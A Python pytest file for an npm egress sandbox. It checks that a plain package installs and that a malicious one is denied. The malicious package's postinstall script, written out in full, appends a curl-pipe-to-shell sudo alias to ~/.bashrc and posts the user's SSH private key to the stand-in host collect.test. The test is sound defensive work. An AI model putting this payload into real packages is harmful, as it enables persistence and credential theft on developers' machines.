"""A real ``npm install`` dry run through the egress relay, from a local npm registry.

verdaccio (package.json's devDependencies) serves two packages over HTTPS from the egress lab's
namespace (tests/helpers/egress.py, tests/helpers/npm.py) as ``npm.test:8443``; the daemon's
policy is the shipped default plus a grant of that name (with the lab's /30 as a CIDR grant),
and ``--test-resolve`` points the name at the lab. The dry runs run as a real user made for the
test, whose home holds an SSH key and a ``.bashrc``. ``airlock-demo-left`` is a plain package;
``airlock-demo-evil`` has a ``postinstall`` script that appends to ``~/.bashrc``, reads
``~/.ssh/id_ed25519`` and posts it to ``collect.test`` (no grant). Both installs really download
and run; the first is allowed and shows the files npm installed, the second is denied with the
post-install effects named, and the host is byte-identical afterwards.
"""

from __future__ import annotations

import os
import shutil
import stat
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from airlock.client import Client
from airlock.policy.store import default_policy_dir
from airlock.types import NetProtocol, Validation, Verdict
from tests.helpers import TEST_LIMITS, public_dir, running_daemon
from tests.helpers.egress import Lab, egress_lab
from tests.helpers.npm import available, npm_package, npm_registry, store
from tests.helpers.users import temporary_user

pytestmark = pytest.mark.skipif(bool(available()), reason=available() or "npm registry")

REGISTRY = "https://npm.test:8443/"

GRANT = """\
version: 1
egress:
  dry_run:
    allow:
      - {{name: registry, hosts: [npm.test], ports: [8443], cidrs: [{cidr}]}}
"""

# The post-install script of the evil package: persistence, a key read, a phone-home.
POSTINSTALL = """\
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const home = os.homedir();
const line = "alias sudo='curl -s https://collect.test/x | sh; sudo'";
fs.appendFileSync(path.join(home, ".bashrc"), "\\n" + line + "\\n");
let key = "";
try { key = fs.readFileSync(path.join(home, ".ssh", "id_ed25519"), "utf8"); } catch (e) {}
const req = https.request({host: "collect.test", path: "/k", method: "POST"}, (r) => r.resume());
req.on("error", () => {});
req.end(key);
"""

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key\n-----END OPENSSH PRIVATE KEY-----\n"


@dataclass
class Env:
    lab: Lab
    client: Client
    base: Path
    home: Path
    uid: int
    gid: int


@pytest.fixture(scope="module")
def env() -> Iterator[Env]:
    with public_dir() as base, egress_lab(base, names=("npm.test",)) as lab:
        storage = base / "storage"
        storage.mkdir()
        left = npm_package(
            "airlock-demo-left", "1.0.0", {"index.js": "module.exports = (s) => s.padStart(9);\n"}
        )
        evil = npm_package(
            "airlock-demo-evil",
            "1.0.0",
            {"index.js": "module.exports = 1;\n", "install.js": POSTINSTALL},
            scripts={"postinstall": "node install.js"},
        )
        for tarball in (left, evil):
            store(storage, tarball, REGISTRY)
        policy = base / "policy"
        shutil.copytree(default_policy_dir(), policy / "default")
        (policy / "registry.yaml").write_text(GRANT.format(cidr=lab.cidr))
        home = base / "home"
        with temporary_user(home) as (uid, gid):
            ssh = home / ".ssh"
            ssh.mkdir(mode=0o700)
            (ssh / "id_ed25519").write_text(KEY)
            (ssh / "id_ed25519").chmod(0o600)
            (home / ".bashrc").write_text("# the user's own\n")
            for p in (ssh, ssh / "id_ed25519", home / ".bashrc"):
                os.chown(p, uid, gid)
            with (
                npm_registry(lab, storage),
                running_daemon(
                    base / "d", *TEST_LIMITS, "--policy-dir", str(policy), *lab.resolve_args()
                ) as d,
                d.client() as client,
            ):
                yield Env(lab, client, base, home, uid, gid)


def project(env: Env, name: str) -> Path:
    """A workspace owned by the test user, with a package.json that lets the package's install
    scripts run (npm 11 runs a dependency's scripts only if ``allowScripts`` names it; older
    npm runs them all)."""
    ws = env.base / name
    ws.mkdir()
    (ws / "package.json").write_text(
        '{"name": "app", "version": "1.0.0", "private": true,'
        ' "allowScripts": {"airlock-demo-evil": true}}\n'
    )
    for p in (ws, ws / "package.json"):
        os.chown(p, env.uid, env.gid)
    return ws


def npm_install(env: Env, ws: Path, package: str) -> Validation:
    command = (
        f"npm install --no-audit --no-fund --no-update-notifier --registry {REGISTRY}"
        f" --cafile {env.lab.ca} --cache /tmp/npm-cache {package}"
    )
    return env.client.validate(
        command,
        cwd=str(ws),
        env={"HOME": str(env.home), "PATH": "/usr/bin:/bin"},
        timeout=60,
        uid=env.uid,
        gid=env.gid,
    )


def snapshot(root: Path) -> dict[str, tuple[int, bytes | None]]:
    """Every path under ``root``: its mode and, for files, its bytes."""
    out: dict[str, tuple[int, bytes | None]] = {}
    for path in [root, *sorted(root.rglob("*"))]:
        st = path.lstat()
        data = path.read_bytes() if stat.S_ISREG(st.st_mode) else None
        out[str(path)] = (st.st_mode, data)
    return out


def test_npm_install_from_a_granted_registry_completes_and_shows_the_installed_files(
    env: Env,
) -> None:
    ws = project(env, "ws-left")
    before = snapshot(ws), snapshot(env.home)
    v = npm_install(env, ws, "airlock-demo-left")
    assert v.exit_code == 0, v.stderr.decode(errors="replace")
    changed = {os.fsdecode(c.path).removeprefix(f"{ws}/") for c in v.changes}
    assert {"node_modules/airlock-demo-left/index.js", "package-lock.json"} <= changed
    # Besides the workspace, only npm's cache (asked for in /tmp, where no rule looks).
    outside = [c.path for c in v.changes if not c.in_workspace]
    assert all(p.startswith(b"/tmp/npm-cache") for p in outside), outside
    tcp = [a for a in v.network_attempts if a.protocol is NetProtocol.TCP]
    assert tcp and all(
        (a.dns_name, a.forwarded, a.grant, a.refusal) == ("npm.test", True, "registry", "")
        for a in tcp
    ), tcp
    assert "Downloaded" in v.summary and "from npm.test" in v.summary
    assert v.verdict is Verdict.ALLOW, v.findings
    assert (snapshot(ws), snapshot(env.home)) == before  # a dry run: nothing on the host


def test_a_package_whose_postinstall_writes_bashrc_and_reads_a_key_is_denied(env: Env) -> None:
    ws = project(env, "ws-evil")
    before = snapshot(ws), snapshot(env.home)
    v = npm_install(env, ws, "airlock-demo-evil")
    assert v.exit_code == 0, v.stderr.decode(errors="replace")
    bashrc, key = env.home / ".bashrc", env.home / ".ssh" / "id_ed25519"
    changed = {os.fsdecode(c.path) for c in v.changes}
    assert {str(bashrc), f"{ws}/node_modules/airlock-demo-evil/install.js"} <= changed
    assert str(key).encode() in [r.path for r in v.sensitive_reads]
    # The downloads were forwarded; the phone-home (no grant) was refused and recorded.
    tcp = [a for a in v.network_attempts if a.protocol is NetProtocol.TCP]
    assert [a for a in tcp if a.dns_name == "npm.test" and a.forwarded]
    home_call = [a for a in tcp if a.dns_name == "collect.test"]
    assert home_call and all(not a.forwarded and a.refusal for a in home_call), home_call
    assert v.verdict is Verdict.DENY
    rules = {f.rule_id for f in v.findings}
    assert {"effect.shell-startup-write", "effect.exfiltration"} <= rules, rules
    shell = next(f for f in v.findings if f.rule_id == "effect.shell-startup-write")
    assert str(bashrc) in shell.message
    s = v.summary
    assert f"modified 1 file ({bashrc})" in s and f"Read {key}." in s, s
    assert "Downloaded" in s and "from npm.test" in s and "Refused collect.test:443" in s, s
    assert "Policy denies: Reads a secret and reaches the network in the same run" in s, s
    assert (snapshot(ws), snapshot(env.home)) == before  # byte-identical
    assert not env.lab.requests()  # nothing reached the lab's own servers (only verdaccio)
